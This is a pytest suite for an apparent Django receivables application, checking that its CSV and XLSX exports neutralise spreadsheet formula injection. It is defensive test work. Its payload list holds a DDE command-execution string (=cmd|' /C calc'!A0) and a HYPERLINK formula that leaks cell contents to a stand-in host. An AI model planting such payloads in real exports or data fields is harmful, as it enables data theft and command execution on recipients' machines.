"""Exports are safe to open: customer data that looks like a formula comes out as text.

Every CSV and XLSX the application writes (pages, commands, files sent to customers, insurers
and factors) goes through ``encours.core.formats.spreadsheet``. Each test below puts formula
payloads where a real export carries free text (customer names, regions, references) and reads
the file back: CSV cells carry a leading apostrophe, XLSX cells are strings, never formulas, and
amounts (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from encours.cash.models import BankLine
from encours.core.formats.spreadsheet import csv_text, is_risky
from tests.conftest import need
from tests.factories import CustomerFactory, ItemFactory

PAYLOADS = (
    '=HYPERLINK("http://x?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(A1)",
)
AS_OF = date(2026, 10, 31)
ROOT = Path(__file__).resolve().parents[2]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_csv_safe(text: str, *, payloads=PAYLOADS) -> list[list[str]]:
    """No cell opens as a formula, and each payload is there once, behind an apostrophe."""
    rows = csv_rows(text)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if is_risky(cell)] == []
    for payload in payloads:
        assert f"'{payload}" in cells, payload
    return rows


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_safe(content: bytes, *, payloads=PAYLOADS) -> list:
    """No formula anywhere, and each payload is a string cell holding exactly the payload."""
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for payload in payloads:
        assert payload in texts, payload
    return cells


@pytest.fixture
def payload_book(entity):
    """One customer per payload, each owing 1 000.00 overdue and holding a 250.00 credit note."""
    customers = []
    for index, payload in enumerate(PAYLOADS):
        customer = CustomerFactory(entity=entity, account_number=f"P{index}", name=payload, region=payload)
        ItemFactory(
            customer=customer,
            number=f"FA-P{index}",
            amount=Decimal("1000.00"),
            document_date=date(2026, 8, 1),
            due_date=date(2026, 9, 1),
        )
        ItemFactory(
            customer=customer,
            number=f"AV-P{index}",
            type="credit_note",
            amount=Decimal("-250.00"),
            document_date=date(2026, 10, 1),
            due_date=date(2026, 10, 1),
        )
        customers.append(customer)
    return customers


def test_the_shared_csv_writer_neutralises_every_trigger_and_keeps_numbers():
    text = csv_text(
        [
            ("=1+1", "+33 1 23", "-1+1", "@SUM(A1)", "\tTAB", "\rCR", "Durand"),
            (Decimal("-100.00"), "-100.00", -3, "12.5", None, date(2026, 1, 2), "a,b"),
        ]
    )
    assert csv_rows(text) == [
        ["'=1+1", "'+33 1 23", "'-1+1", "'@SUM(A1)", "'\tTAB", "'\nCR", "Durand"],  # a lone CR would end the row
        ["-100.00", "-100.00", "-3", "12.5", "", "2026-01-02", "a,b"],
    ]


def test_aged_balance_csv_and_xlsx_pages(client, credit_manager, payload_book):
    client.force_login(credit_manager)
    params = {"as_of": AS_OF.isoformat(), "by": "customer"}
    rows = assert_csv_safe(client.get(reverse("reports:aged_balance_csv"), params).content.decode())
    header, first = rows[0], rows[1]
    assert first[header.index("name")] == "'" + PAYLOADS[0]
    assert first[header.index("unapplied")] == "-250.00"  # a negative amount is a number, not a text
    cells = assert_xlsx_safe(client.get(reverse("reports:aged_balance_xlsx"), params).content)
    assert Decimal(-250) in {cell.value for cell in cells if cell.data_type == "n"}
    by_region = client.get(reverse("reports:aged_balance_csv"), {**params, "by": "region"}).content.decode()
    assert_csv_safe(by_region)


def test_aged_balance_and_kpis_commands(payload_book, tmp_path):
    target = tmp_path / "aged.csv"
    call_command("aged_balance", "--as-of", "2026-10-31", "--output", str(target), stdout=io.StringIO())
    assert_csv_safe(target.read_text(encoding="utf-8"))
    target = tmp_path / "aged.xlsx"
    call_command(
        "aged_balance", "--as-of", "2026-10-31", "--format", "xlsx", "--output", str(target), stdout=io.StringIO()
    )
    assert_xlsx_safe(target.read_bytes())
    target = tmp_path / "kpis.csv"
    call_command("kpis", "--as-of", "2026-10-31", "--output", str(target), stdout=io.StringIO())
    kpis = dict(csv_rows(target.read_text(encoding="utf-8"))[1:])
    assert kpis["open_ar"] == "3750.00" and kpis["unapplied"] == "-1250.00"  # 5 × 1000 − 5 × 250, 5 × −250


def test_weekly_report_xlsx(client, credit_manager, payload_book):
    client.force_login(credit_manager)
    response = client.get(reverse("reports:weekly"), {"as_of": AS_OF.isoformat(), "format": "xlsx"})
    assert response.status_code == 200
    assert_xlsx_safe(response.content)  # regions and customer names alike


def test_customer_statement_xlsx_sent_to_customers(client, credit_manager, payload_book):
    client.force_login(credit_manager)
    customer = payload_book[0]
    url = reverse("collections:statement", args=[customer.pk, "xlsx"])
    cells = assert_xlsx_safe(client.get(url, {"as_of": AS_OF.isoformat()}).content, payloads=PAYLOADS[:1])
    assert Decimal(-250) in {cell.value for cell in cells if cell.data_type == "n"}


def test_insurance_exposure_command(payload_book, tmp_path, entity):
    for customer, payload in zip(payload_book, PAYLOADS, strict=True):
        customer.account_number = payload[:20]
        customer.save(update_fields=["account_number"])
    target = tmp_path / "exposure.csv"
    call_command("insurance_exposure", "--as-of", "2026-10-31", "--output", str(target), stderr=io.StringIO())
    assert_csv_safe(target.read_text(encoding="utf-8"), payloads=[payload[:20] for payload in PAYLOADS])


def test_cover_request_csv(imported):
    from encours.insurance.services.requests import cover_requests_csv, cover_requests_prepare
    from encours.ledger.models import Customer

    (request,) = cover_requests_prepare(customers=Customer.objects.all(), as_of=AS_OF)
    Customer.objects.filter(pk=request.customer_id).update(name=PAYLOADS[0])
    request.customer.refresh_from_db()
    assert_csv_safe(cover_requests_csv([request]).decode(), payloads=PAYLOADS[:1])


def test_factoring_bordereau_csv(factored):
    from encours.insurance.services.factoring import bordereau_csv
    from encours.ledger.models import Customer

    Customer.objects.update(name=PAYLOADS[1])
    assert_csv_safe(bordereau_csv(factored["bordereau"]).decode(), payloads=PAYLOADS[1:2])


def test_cash_allocations_export(collector, line, invoices):
    from encours.cash.services.apply import line_apply
    from encours.cash.services.exports import allocations_csv
    from encours.cash.services.plans import Part
    from encours.ledger.models import Item

    BankLine.objects.filter(pk=line.pk).update(entry_ref="=cmd|' /C calc'!A0")
    line.refresh_from_db()
    Item.objects.filter(pk=invoices[0].pk).update(number="@SUM(A1)")
    line_apply(
        line=line, customer_id=invoices[0].customer_id, parts=[Part(invoices[0].pk, Decimal("500"))], user=collector
    )
    out = io.StringIO()
    assert allocations_csv(out) == 1
    _header, row = assert_csv_safe(out.getvalue(), payloads=("=cmd|' /C calc'!A0", "@SUM(A1)"))
    assert row == ["'=cmd|' /C calc'!A0", "C01001", "'@SUM(A1)", "500.00"]


def test_risk_scores_keep_negative_scores_as_numbers(tmp_path, monkeypatch):
    from encours.risk.management.commands import risk_scores

    rows = [{"siren": "+1", "year": "2025", "altman_z2": "-1.52", "altman_zone": "@SUM(A1)", "grade": "E"}]
    monkeypatch.setattr(risk_scores, "score_rows", lambda *, as_of: rows)
    out = io.StringIO()
    call_command("risk_scores", "--format", "csv", "--output", "-", stdout=out)
    header, row = csv_rows(out.getvalue())
    scores = dict(zip(header, row, strict=True))
    assert (scores["siren"], scores["altman_z2"], scores["altman_zone"], scores["payer_index"]) == (
        "'+1",
        "-1.52",
        "'@SUM(A1)",
        "",
    )


def test_forecast_xlsx():
    from encours.forecast.exports import forecast_xlsx

    week = SimpleNamespace(
        week_start=date(2026, 11, 2),
        expected=Decimal("-50.00"),
        expected_from_orders=Decimal("0"),
        low=Decimal("-80.00"),
        high=Decimal("10.00"),
        cumulative_expected=Decimal("-50.00"),
    )
    series = SimpleNamespace(currency="EUR", weeks=[week], beyond_horizon=Decimal("0"))
    context = {"as_of": AS_OF, "series": [{"entity_name": p, "series": series} for p in PAYLOADS], "accuracy": []}
    cells = assert_xlsx_safe(forecast_xlsx(context))
    assert Decimal(-80) in {cell.value for cell in cells if cell.data_type == "n"}


def test_disputes_report_csv():
    from encours.disputes.reporting import write_csv

    rows = [
        SimpleNamespace(
            reason=payload,
            open_count=1,
            open_amount=Decimal("-10.00"),
            resolved_count=0,
            resolved_amount=Decimal("0"),
            average_days=None,
            p90_days=None,
        )
        for payload in PAYLOADS
    ]
    out = io.StringIO()
    write_csv(rows, out)
    assert_csv_safe(out.getvalue())
    assert csv_rows(out.getvalue())[1][2] == "-10.00"


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b")


def test_no_module_writes_csv_or_xlsx_without_the_shared_writers():
    shared = ROOT / "encours" / "core" / "formats" / "spreadsheet.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in sorted((ROOT / "encours").rglob("*.py"))
        if path != shared
        for number, text in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(text)
    ]
    assert offenders == []


@pytest.mark.slow
def test_libreoffice_opens_the_xlsx_with_the_payloads_as_plain_text(client, credit_manager, payload_book, tmp_path):
    """The real program: LibreOffice converts the XLSX to CSV; a formula would show its result."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    need(soffice is not None, "LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    client.force_login(credit_manager)
    params = {"as_of": AS_OF.isoformat(), "by": "customer"}
    source = tmp_path / "aged.xlsx"
    source.write_bytes(client.get(reverse("reports:aged_balance_xlsx"), params).content)
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    rows = csv_rows((tmp_path / "aged.csv").read_text(encoding="utf-8", errors="replace"))
    names = [row[1] for row in rows[1:] if row and row[0].startswith("P")]
    assert sorted(names) == sorted(PAYLOADS)
    unapplied = [row[-3] for row in rows[1:] if row and row[0].startswith("P")]
    assert {Decimal(amount) for amount in unapplied} == {Decimal(-250)}  # numbers stay numbers, not "'-250.00"
